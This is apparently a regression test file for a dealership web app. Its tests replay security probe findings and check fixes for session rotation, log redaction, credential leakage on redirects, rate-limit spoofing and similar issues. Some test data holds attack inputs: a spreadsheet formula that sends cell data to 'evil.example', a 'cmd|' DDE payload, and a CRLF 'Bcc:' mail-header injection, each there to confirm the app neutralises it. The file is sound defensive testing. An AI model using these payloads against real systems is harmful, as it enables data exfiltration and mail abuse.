// Issue 36: the findings of an outside production-mode probe, each reproduced here as the probe did it, through the
// real app (inject), a real database and, for the mail, a real SMTP server. Items 4 and 8 are also held by
// plugins/static.test.ts, modules/seo/seo.test.ts and modules/health/health.test.ts; item 7 by
// plugins/openapi.test.ts and `npm run lint:openapi`.
import { once } from 'node:events';
import http, { type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FEED_PATHS } from '@domain/feeds';
import { REDACTED } from '../logging';
import { fetchLimited } from '../modules/inventory-feeds/fetch';
import { purgeSentMail } from '../modules/mail/mailer';
import { outboxMessages } from '../db/schema';
import { createTestApp, createTestAppWithClient, loginAs, startSmtpSink, type TestContext } from './helpers';

const PRODUCTION = {
  NODE_ENV: 'production', ADMIN_PASSWORD: 'a-production-password', SESSION_SECRET: 'x'.repeat(40),
  PII_ENCRYPTION_KEY: Buffer.alloc(32, 7).toString('base64'),
};

const post = (t: TestContext, url: string, payload: unknown, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'POST', url, payload: payload as object, headers: { origin: t.config.publicUrl, ...headers } });

/** The text of a mail as the SMTP server received it, quoted-printable soft breaks and escapes undone. */
const decodeMail = (raw: string) => raw.replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16)));
const tokenIn = (text: string) => /reset-password\?token=([A-Za-z0-9_%-]{20,})/.exec(text)?.[1];

describe('item 1: no live reset link in the outbox', () => {
  let smtp: Awaited<ReturnType<typeof startSmtpSink>>;
  let t: TestContext;
  beforeAll(async () => {
    smtp = await startSmtpSink();
    t = await createTestApp({ env: { ...PRODUCTION, SMTP_URL: `smtp://127.0.0.1:${smtp.port}` } });
  });
  afterAll(async () => { await t.close(); await smtp.close(); });

  it('mails the link, keeps a redacted copy an admin cannot use, and the mailed link works', async () => {
    const owner = await t.createUser({ username: 'outbox-owner', email: 'outbox.owner@example.ca', password: 'the old kayak paddle' });
    const asked = await post(t, '/api/auth/forgot-password', { email: owner.email });
    expect(asked.statusCode).toBe(200);
    await t.app.background.idle();

    const admin = await loginAs(t.app, await t.createUser({ username: 'outbox-admin', role: 'admin' }));
    const outbox = await t.app.inject({ method: 'GET', url: '/api/admin/outbox?category=password_reset', headers: { cookie: admin.cookie } });
    const [stored] = outbox.json().messages as { text: string; status: string }[];
    expect(stored!.status).toBe('sent');
    expect(stored!.text).toContain('[redacted');
    expect(tokenIn(stored!.text)).toBeUndefined();
    // Not in the table either (backups copy it as it is).
    const rows = await t.db.select({ text: outboxMessages.text }).from(outboxMessages);
    expect(rows.some((r) => /token=/.test(r.text))).toBe(false);

    const mail = decodeMail(smtp.received.find((m) => m.includes('outbox.owner@example.ca'))!);
    const token = decodeURIComponent(tokenIn(mail)!);
    const reset = await post(t, '/api/auth/reset-password', { token, password: 'a brand new kayak paddle' });
    expect(reset.statusCode).toBe(200);
  });

  it('without SMTP in production, stores no link and says the message could not be delivered', async () => {
    const p = await createTestApp({ env: PRODUCTION });
    try {
      const owner = await p.createUser({ username: 'no-smtp-owner', email: 'no.smtp@example.ca' });
      await post(p, '/api/auth/forgot-password', { email: owner.email });
      await p.app.background.idle();
      const [row] = await p.db.select().from(outboxMessages);
      expect(row!.text).not.toMatch(/token=/);
      expect(row!.status).toBe('failed');
      expect(row!.error).toContain('SMTP_URL is not set');
    } finally {
      await p.close();
    }
  });

  it('purges sent messages older than OUTBOX_RETENTION_DAYS, and keeps newer, waiting and failed ones', async () => {
    const now = new Date('2026-11-27T12:00:00Z');
    const day = 24 * 3600_000;
    await t.db.delete(outboxMessages);
    const base = { toAddress: 'keep@example.ca', subject: 's', text: 't', category: 'lead_notification' };
    await t.db.insert(outboxMessages).values([
      { ...base, status: 'sent', sentAt: new Date(now.getTime() - 31 * day), subject: 'old sent' },
      { ...base, status: 'sent', sentAt: new Date(now.getTime() - 29 * day), subject: 'recent sent' },
      { ...base, status: 'failed', subject: 'old failed', createdAt: new Date(now.getTime() - 90 * day) },
      { ...base, status: 'stored', subject: 'old waiting', createdAt: new Date(now.getTime() - 90 * day) },
    ]);
    expect(t.config.outboxRetentionDays).toBe(30);
    expect(await purgeSentMail(t.db, t.config.outboxRetentionDays, now)).toBe(1);
    const left = (await t.db.select({ subject: outboxMessages.subject }).from(outboxMessages)).map((r) => r.subject).sort();
    expect(left).toEqual(['old failed', 'old waiting', 'recent sent']);
  });
});

describe('item 2: trivial passwords are refused with the reason', () => {
  let t: TestContext;
  beforeAll(async () => { t = await createTestApp(); });
  afterAll(() => t.close());

  const trivial: [string, RegExp][] = [
    [' '.repeat(10), /repeated characters/],
    ['qqqqqqqqqq', /repeated characters/],
    ['abcabcabca', /repeated patterns/],
    ['..........', /repeated characters/],
  ];

  it('on sign-up', async () => {
    for (const [password, reason] of trivial) {
      const res = await post(t, '/api/auth/register', { username: 'trivial-user', email: 'trivial@example.ca', password });
      expect(res.statusCode, JSON.stringify(password)).toBe(400);
      expect(res.json().fields.password, JSON.stringify(password)).toMatch(/too easy to guess/);
      expect(res.json().fields.password, JSON.stringify(password)).toMatch(reason);
    }
    const ok = await post(t, '/api/auth/register', { username: 'strong-user', email: 'strong@example.ca', password: 'maple syrup on tuesday' });
    expect(ok.statusCode).toBe(201);
  });

  it('on a password change and a reset', async () => {
    const user = await t.createUser({ username: 'changer', password: 'the first long secret' });
    const { cookie } = await loginAs(t.app, user);
    const change = await post(t, '/api/account/password', { currentPassword: user.password, newPassword: 'qqqqqqqqqq' }, { cookie });
    expect(change.statusCode).toBe(400);
    expect(change.json().fields.newPassword).toMatch(/newPassword is too easy to guess \(repeated characters/);

    await post(t, '/api/auth/forgot-password', { email: user.email });
    await t.app.background.idle();
    // A development copy without SMTP keeps the link in its outbox (mail/mailer.ts): the only way it delivers.
    const [mail] = await t.db.select({ text: outboxMessages.text }).from(outboxMessages);
    const token = decodeURIComponent(tokenIn(mail!.text)!);
    const reset = await post(t, '/api/auth/reset-password', { token, password: 'abcabcabca' });
    expect(reset.statusCode).toBe(400);
    expect(reset.json().fields.password).toMatch(/too easy to guess \(repeated patterns/);
  });
});

describe('item 3: a new sign-in ends the session the browser presented', () => {
  let t: TestContext;
  beforeAll(async () => { t = await createTestApp(); });
  afterAll(() => t.close());

  const cookieOf = (res: { cookies: { name: string; value: string }[] }, name: string) => res.cookies.find((c) => c.name === name)?.value;
  const whoAmI = (cookie: string) => t.app.inject({ method: 'GET', url: '/api/auth/user', headers: { cookie } });

  it('on login, whoever the presented session belonged to', async () => {
    const name = t.config.session.cookieName;
    const first = await t.createUser({ username: 'first-person', password: 'granite countertop lamp' });
    const second = await t.createUser({ username: 'second-person', password: 'willow basket harbour' });
    const old = await loginAs(t.app, first);
    expect((await whoAmI(old.cookie)).statusCode).toBe(200);

    const again = await post(t, '/api/auth/login', { username: second.username, password: second.password }, { cookie: old.cookie });
    expect(again.statusCode).toBe(200);
    expect((await whoAmI(old.cookie)).statusCode).toBe(401);
    const fresh = cookieOf(again, name)!;
    expect(fresh).not.toBe(old.token);
    expect((await whoAmI(`${name}=${fresh}`)).json().user.username).toBe('second-person');

    // The same account signing in again gets a new token too, and the one it presented ends.
    const repeat = await post(t, '/api/auth/login', { username: second.username, password: second.password }, { cookie: `${name}=${fresh}` });
    expect((await whoAmI(`${name}=${fresh}`)).statusCode).toBe(401);
    expect((await whoAmI(`${name}=${cookieOf(repeat, name)!}`)).statusCode).toBe(200);
  });

  it('on sign-up', async () => {
    const old = await loginAs(t.app, await t.createUser({ username: 'before-signup' }));
    const res = await post(t, '/api/auth/register', { username: 'after-signup', email: 'after.signup@example.ca', password: 'lantern over the river' }, { cookie: old.cookie });
    expect(res.statusCode).toBe(201);
    expect((await whoAmI(old.cookie)).statusCode).toBe(401);
  });

  it('a failed sign-in leaves the presented session alone', async () => {
    const user = await t.createUser({ username: 'keeps-session' });
    const old = await loginAs(t.app, user);
    const wrong = await post(t, '/api/auth/login', { username: user.username, password: 'not the right one at all' }, { cookie: old.cookie });
    expect(wrong.statusCode).toBe(401);
    expect((await whoAmI(old.cookie)).statusCode).toBe(200);
  });
});

describe('item 4: signed-in pages are not stored by the browser', () => {
  it('/profile and /saved answer private, no-store with a session', async () => {
    const t = await createTestAppWithClient({ render: false });
    try {
      const { cookie } = await loginAs(t.app, await t.createUser({ username: 'page-owner' }));
      for (const url of ['/profile', '/saved']) {
        const res = await t.app.inject({ method: 'GET', url, headers: { cookie, accept: 'text/html' } });
        expect(res.headers['cache-control'], url).toBe('private, no-store');
      }
    } finally {
      await t.close();
    }
  });
});

describe('item 5: /internal/backup', () => {
  const TOKEN = 'x'.repeat(43);

  it('answers 404, never 500, to a token of another byte length, and 404 to a forwarded request', async () => {
    const t = await createTestApp({ env: { BACKUP_ENDPOINT: 'on' }, backupControlToken: () => TOKEN });
    try {
      // 43 characters, 44 bytes: the length check passed and timingSafeEqual threw.
      for (const given of [`${'x'.repeat(42)}é`, 'é', '', `${TOKEN}x`]) {
        const res = await t.app.inject({ method: 'POST', url: '/internal/backup', headers: { authorization: `Bearer ${given}` }, payload: {} });
        expect(res.statusCode, given).toBe(404);
      }
      const remote = await t.app.inject({ method: 'POST', url: '/internal/backup', remoteAddress: '203.0.113.9', headers: { authorization: `Bearer ${TOKEN}` }, payload: {} });
      expect(remote.statusCode).toBe(404);
      const relative = await t.app.inject({ method: 'POST', url: '/internal/backup', headers: { authorization: `Bearer ${TOKEN}` }, payload: { file: 'relative.gz' } });
      expect(relative.statusCode).toBe(400);
    } finally {
      await t.close();
    }
  });

  it('is not there without BACKUP_ENDPOINT=on, whatever token comes', async () => {
    const t = await createTestApp({ backupControlToken: () => TOKEN });
    try {
      expect(t.config.backup.endpoint).toBe(false);
      const res = await t.app.inject({ method: 'POST', url: '/internal/backup', headers: { authorization: `Bearer ${TOKEN}` }, payload: {} });
      expect(res.statusCode).toBe(404);
    } finally {
      await t.close();
    }
  });
});

describe('item 6: database errors reach the log without their parameters', () => {
  it('a NUL in an admin filter is a 400, and the warning carries neither the value nor the e-mail', async () => {
    const lines: string[] = [];
    const t = await createTestApp({ logStream: { write: (line) => void lines.push(line) } });
    try {
      const admin = await loginAs(t.app, await t.createUser({ username: 'log-admin', role: 'admin' }));
      const res = await t.app.inject({ method: 'GET', url: '/api/admin/outbox?to=private.person%40example.ca%00SECRET', headers: { cookie: admin.cookie } });
      expect(res.statusCode).toBe(400);
      const warning = lines.find((l) => l.includes('database refused a client value'));
      expect(warning, 'the database error was logged').toBeDefined();
      expect(warning).toContain(REDACTED);
      // The schema lower-cases the filter: the value reached the log as "…\u0000secret".
      expect(lines.join('')).not.toMatch(/private\.person|secret/i);
    } finally {
      await t.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Issue 56: a second probe, of the integrations (feeds, lead delivery, the deal worksheet, manage links, estimates).

/** A local HTTP server that records the Authorization header of every request and answers with `handle`. */
async function recordingServer(handle: (req: IncomingMessage, res: ServerResponse) => void) {
  const auth: (string | undefined)[] = [];
  const server = http.createServer((req, res) => { auth.push(req.headers.authorization); handle(req, res); });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, auth, close: () => new Promise<void>((r) => server.close(() => r())) };
}

const CSV = 'Stock,VIN,Year,Make,Model\r\nA1,2T1BURHE0KC100001,2020,Toyota,Corolla\r\n';
const BASIC = `Basic ${Buffer.from('dealer:s3cret').toString('base64')}`;

describe('finding 1: a feed\'s stored password goes only to its own origin', () => {
  let dms: Awaited<ReturnType<typeof recordingServer>>;
  let other: Awaited<ReturnType<typeof recordingServer>>;
  let t: TestContext;
  let admin: { cookie: string };
  const api = (method: 'POST' | 'PUT', url: string, payload: unknown) => t.app.inject({ method, url, payload: payload as object, headers: { cookie: admin.cookie, origin: t.config.publicUrl } });

  beforeAll(async () => {
    other = await recordingServer((_req, res) => res.writeHead(200, { 'content-type': 'text/csv' }).end(CSV));
    dms = await recordingServer((req, res) => {
      if (req.url === '/away') return void res.writeHead(302, { location: `${other.origin}/feed.csv` }).end();
      if (req.url === '/here') return void res.writeHead(302, { location: '/feed.csv' }).end();
      res.writeHead(200, { 'content-type': 'text/csv' }).end(CSV);
    });
    t = await createTestApp();
    admin = await loginAs(t.app, await t.createUser({ username: 'feed-cred-admin', role: 'admin' }));
  });
  afterAll(async () => { await t.close(); await dms.close(); await other.close(); });

  it('a redirect to another origin goes on without Authorization; a same-origin one keeps it', async () => {
    const opts = { auth: { username: 'dealer', password: 's3cret' }, timeoutMs: 5_000, maxBytes: 100_000, allowPrivate: true };
    dms.auth.length = 0; other.auth.length = 0;
    await fetchLimited(`${dms.origin}/away`, opts);
    expect(dms.auth).toEqual([BASIC]);
    expect(other.auth).toEqual([undefined]);
    dms.auth.length = 0;
    await fetchLimited(`${dms.origin}/here`, opts);
    expect(dms.auth).toEqual([BASIC, BASIC]);
  });

  it('a preview of another origin with a feedId does not send the stored password; of its own origin it does', async () => {
    const created = await api('POST', '/api/admin/inventory-feeds', {
      name: 'Credentialed', url: `${dms.origin}/feed.csv`, username: 'dealer', password: 's3cret', mapping: { stock_number: 'Stock', vin: 'VIN' },
    });
    expect(created.statusCode, created.body).toBe(201);
    const feedId = (created.json() as { id: number }).id;
    dms.auth.length = 0; other.auth.length = 0;
    await api('POST', '/api/admin/inventory-feeds/preview', { url: `${other.origin}/feed.csv`, feedId });
    expect(other.auth).toEqual([undefined]);
    await api('POST', '/api/admin/inventory-feeds/preview', { url: `${dms.origin}/feed.csv`, feedId });
    expect(dms.auth).toEqual([BASIC]);

    // Moving the feed to another origin without the password again is refused; with it (or none), it is saved.
    const moved = await api('PUT', `/api/admin/inventory-feeds/${feedId}`, { name: 'Credentialed', url: `${other.origin}/feed.csv`, mapping: { stock_number: 'Stock', vin: 'VIN' } });
    expect(moved.statusCode).toBe(400);
    expect(moved.json().fields.password).toMatch(/enter its password again/);
    const samePlace = await api('PUT', `/api/admin/inventory-feeds/${feedId}`, { name: 'Credentialed', url: `${dms.origin}/other.csv`, mapping: { stock_number: 'Stock', vin: 'VIN' } });
    expect(samePlace.statusCode, samePlace.body).toBe(200);
    expect(samePlace.json().hasPassword).toBe(true);
    const removed = await api('PUT', `/api/admin/inventory-feeds/${feedId}`, { name: 'Credentialed', url: `${other.origin}/feed.csv`, password: null, mapping: { stock_number: 'Stock', vin: 'VIN' } });
    expect(removed.statusCode, removed.body).toBe(200);
    expect(removed.json().hasPassword).toBe(false);
  });

  it('finding 8: a URL holding a user name and password is refused, pointing at the fields', async () => {
    const res = await api('POST', '/api/admin/inventory-feeds', { name: 'In the URL', url: `http://dealer:s3cret@${dms.origin.slice(7)}/feed.csv`, mapping: { stock_number: 'Stock', vin: 'VIN' } });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/use the username and password fields/);
    const preview = await api('POST', '/api/admin/inventory-feeds/preview', { url: `http://dealer@${dms.origin.slice(7)}/feed.csv` });
    expect(preview.statusCode).toBe(400);
  });
});

describe('finding 2: a feed preview shows only CSV or text, and its errors name no inside address', () => {
  let svc: Awaited<ReturnType<typeof recordingServer>>;
  let t: TestContext;
  let admin: { cookie: string };
  beforeAll(async () => {
    // A service that is not a feed: a JSON answer with a secret in it.
    svc = await recordingServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"AccessKeyId":"AKIAEXAMPLEEXAMPLE12"}'));
    t = await createTestApp();
    admin = await loginAs(t.app, await t.createUser({ username: 'feed-type-admin', role: 'admin' }));
  });
  afterAll(async () => { await t.close(); await svc.close(); });
  const preview = (url: string) => t.app.inject({ method: 'POST', url: '/api/admin/inventory-feeds/preview', payload: { url }, headers: { cookie: admin.cookie, origin: t.config.publicUrl } });

  it('refuses a JSON answer without showing it', async () => {
    const res = await preview(`${svc.origin}/`);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toMatch(/"application\/json", not a CSV file/);
    expect(res.body).not.toContain('AKIA');
  });

  it('says a closed port refused the connection without naming the address or the port', async () => {
    const closed = await recordingServer(() => {});
    const port = closed.origin.split(':')[2]!;
    await closed.close();
    const res = await preview(`http://localhost:${port}/feed.csv`);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe('Could not read the feed: The feed could not be reached: the connection was refused');
    expect(res.body).not.toContain(port);
  });
});

describe('finding 3: spreadsheet formulas from a feed do not reach /feeds/inventory.csv', () => {
  it('prefixes a cell starting with = + - @ with a single quote, and keeps numbers and signed figures as they are', async () => {
    const t = await createTestApp();
    try {
      await t.createVehicle({ stockNumber: 'F000001', photos: 1, trim: '@SUM(1+1)*cmd|\' /C calc\'!A0', description: '=HYPERLINK("http://evil.example/?d="&A2,"Details")', exteriorColor: '-2+3', interiorColor: '+HYPERLINK("x")' });
      const res = await t.app.inject({ method: 'GET', url: FEED_PATHS.inventoryCsv });
      const [row] = parseCsv(res.body, { columns: true }) as Record<string, string>[];
      expect(row!.trim).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
      expect(row!.description).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Details")`);
      expect(row!.interior_color).toBe(`'+HYPERLINK("x")`);
      // Arithmetic of digits alone can name no function or cell: left as it is (domain/csv.ts).
      expect(row!.exterior_color).toBe('-2+3');
      expect(row!.stock_number).toBe('F000001');
    } finally {
      await t.close();
    }
  });
});

describe('finding 4: behind a proxy, a spoofed X-Forwarded-For does not escape the per-address limits', () => {
  it('with TRUST_PROXY=1, forty trade estimates with forty invented addresses from one client stop at 30', async () => {
    const t = await createTestApp({ env: { ...PRODUCTION, TRUST_PROXY: '1' } });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 40; i++) {
        // The client writes the first entry; the proxy (the socket's peer) appends the address it saw.
        const res = await t.app.inject({
          method: 'POST', url: '/api/trade-estimates', remoteAddress: '10.0.0.5',
          headers: { 'x-forwarded-for': `198.18.${i}.1, 203.0.113.50` },
          payload: { year: 2019, make: 'Honda', model: 'Civic', mileage: 80_000, condition: 'good' },
        });
        statuses.push(res.statusCode);
      }
      expect(statuses.filter((s) => s === 200)).toHaveLength(30);
      expect(statuses.slice(30).every((s) => s === 429)).toBe(true);
    } finally {
      await t.close();
    }
  });
});

describe('findings 6 and 7: secret links are not cached, not referred, not logged', () => {
  const SHARE = 'Zk3vQ9xT1bLm0pRsUvWxYz';
  const capabilityUrls = [
    '/appointments/manage?token=abc.def', `/deal-worksheets/${SHARE}`, `/deal-worksheets/${SHARE}?print=1`,
    '/api/appointments/manage?token=abc.def', `/api/deal-worksheets/${SHARE}`,
  ];

  it('every page and answer reached by one is private, no-store with no referrer, whatever its status', async () => {
    const t = await createTestAppWithClient({ render: false });
    try {
      for (const url of capabilityUrls) {
        const res = await t.app.inject({ method: 'GET', url, headers: { accept: url.startsWith('/api/') ? 'application/json' : 'text/html' } });
        expect(res.headers['cache-control'], url).toBe('private, no-store');
        expect(res.headers['referrer-policy'], url).toBe('no-referrer');
      }
      const post = await t.app.inject({ method: 'POST', url: '/api/appointments/manage/cancel', payload: { token: 'abc.def' } });
      expect(post.headers['referrer-policy']).toBe('no-referrer');
      // Other pages keep the site's referrer policy.
      const other = await t.app.inject({ method: 'GET', url: '/appointments', headers: { accept: 'text/html' } });
      expect(other.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    } finally {
      await t.close();
    }
  });

  it('a share token in the path is redacted from the request log, as query tokens are', async () => {
    const lines: string[] = [];
    const t = await createTestApp({ logStream: { write: (line) => void lines.push(line) } });
    try {
      await t.app.inject({ method: 'GET', url: `/api/deal-worksheets/${SHARE}` });
      await t.app.inject({ method: 'GET', url: `/deal-worksheets/${SHARE}?print=1` });
      const logged = lines.join('');
      expect(logged).toContain(`/api/deal-worksheets/${REDACTED}`);
      expect(logged).toContain(`/deal-worksheets/${REDACTED}?print=1`);
      expect(logged).not.toContain(SHARE);
    } finally {
      await t.close();
    }
  });
});

describe('finding 9: a CR or LF a shopper types does not reach a mail header', () => {
  it('a lead named with a line break gives a one-line subject in the outbox and on the wire', async () => {
    const smtp = await startSmtpSink();
    const t = await createTestApp({ env: { SMTP_URL: `smtp://127.0.0.1:${smtp.port}` } });
    try {
      const res = await t.app.inject({
        method: 'POST', url: '/api/leads', remoteAddress: '10.56.9.1',
        payload: { source: 'contact', leadType: 'contact', email: 'crlf@example.ca', name: 'Mallory\r\nBcc: victim@example.com' },
      });
      expect(res.statusCode, res.body).toBe(201);
      await t.app.background.idle();
      const rows = await t.db.select({ subject: outboxMessages.subject }).from(outboxMessages);
      const subject = rows.find((r) => r.subject.includes('Mallory'))!.subject;
      expect(subject).not.toMatch(/[\r\n]/);
      expect(subject).toContain('Mallory Bcc: victim@example.com');
      // The mail's head (its body quotes the name on lines of its own, which is harmless there).
      const head = smtp.received.find((m) => m.includes('Mallory'))!.split(/\r?\n\r?\n/)[0]!;
      expect(head).toMatch(/^Subject: /m);
      expect(head).not.toMatch(/^Bcc:/m);
    } finally {
      await t.close();
      await smtp.close();
    }
  });
});

describe('finding 5: the server decides whether a trade-in value is the appraiser\'s', () => {
  it('only the value the trade estimate issued, with its proof, is "trade appraiser range"; a typed one is the shopper\'s estimate', async () => {
    const t = await createTestApp();
    try {
      for (const [year, price] of [[2014, 9_000], [2015, 10_000], [2016, 11_500]] as const) {
        await t.createVehicle({ make: 'Honda', model: 'Civic', year, price, mileage: 160_000, bodyType: 'Sedan', status: 'sold' });
      }
      const { id } = await t.createVehicle({ make: 'Mazda', model: 'CX-5', year: 2023, price: 31_000 });
      t.app.inventoryCache.invalidate();
      const estimate = await post(t, '/api/trade-estimates', { year: 2015, make: 'Honda', model: 'Civic', mileage: 150_000, condition: 'good' });
      const { estimate: range, proof } = estimate.json() as { estimate: { low: number }; proof: string };
      expect(range.low).toBeGreaterThan(0);
      const quote = async (tradeIn: object) => {
        const res = await post(t, '/api/deal-quotes', { vehicleId: id, purchase: 'cash', tradeIn: { description: '2015 Honda Civic', ...tradeIn } });
        expect(res.statusCode, res.body).toBe(200);
        return (res.json() as { tradeIn: { source: string; label: string } }).tradeIn;
      };
      expect(await quote({ value: range.low, source: 'appraisal', appraisalProof: proof })).toMatchObject({ source: 'appraisal', label: 'trade appraiser range' });
      // The probe's request: a typed value sent as the appraiser's, without a proof, or with the proof of another value.
      expect(await quote({ value: 25_000, source: 'appraisal' })).toMatchObject({ source: 'estimate', label: 'your estimate' });
      expect(await quote({ value: 25_000, source: 'appraisal', appraisalProof: proof })).toMatchObject({ source: 'estimate', label: 'your estimate' });
      // What is kept (the share page, the dealer's e-mail, the CRM copy) is the same quote.
      const kept = await post(t, '/api/deal-worksheets', { vehicleId: id, purchase: 'cash', tradeIn: { value: 25_000, source: 'appraisal', description: '2015 Honda Civic' } });
      expect(kept.json().quote.tradeIn).toMatchObject({ source: 'estimate', label: 'your estimate' });
    } finally {
      await t.close();
    }
  });
});
